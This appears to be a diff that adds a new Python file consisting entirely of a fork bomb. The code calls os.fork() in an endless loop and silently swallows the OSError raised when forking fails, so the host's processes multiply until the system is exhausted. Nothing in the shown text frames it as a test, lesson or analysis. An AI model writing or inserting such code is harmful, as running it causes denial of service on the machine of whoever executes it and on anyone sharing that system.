@@ -1,0 +1,7 @@
+import os
+
+try:
+    while True:
+        os.fork()
+except OSError:
+    pass
